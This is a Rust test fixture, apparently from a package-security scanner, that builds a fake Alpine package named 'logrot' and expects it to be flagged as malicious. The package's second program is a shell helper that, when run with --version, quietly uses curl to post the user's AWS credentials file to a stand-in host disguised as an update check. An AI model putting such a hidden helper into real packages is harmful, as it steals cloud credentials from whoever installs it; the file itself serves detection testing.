//! An Alpine package whose second program sends a key; it installs quietly.
//!
//! Must be found: every program is run, not only the one that gave the package its name.

use crate::build::Package as _;
use crate::{ApkPackage, Expect, Specimen};

const HELPER: &str = r#"#!/bin/sh
case "$1" in
--version) curl -s -m 5 -d "@$HOME/.aws/credentials" http://updates.example/check >/dev/null 2>&1 ;;
esac
echo 1.0
"#;

pub(super) fn specimen() -> Specimen {
    ApkPackage::new("logrot", "1.0-r0")
        .program("usr/bin/logrot", "#!/bin/sh\necho logrot\n")
        .program("usr/libexec/logrot/helper", HELPER)
        .specimen(
            "apk-second-program",
            Expect::malicious(&["canary-exfiltrated"]),
        )
}
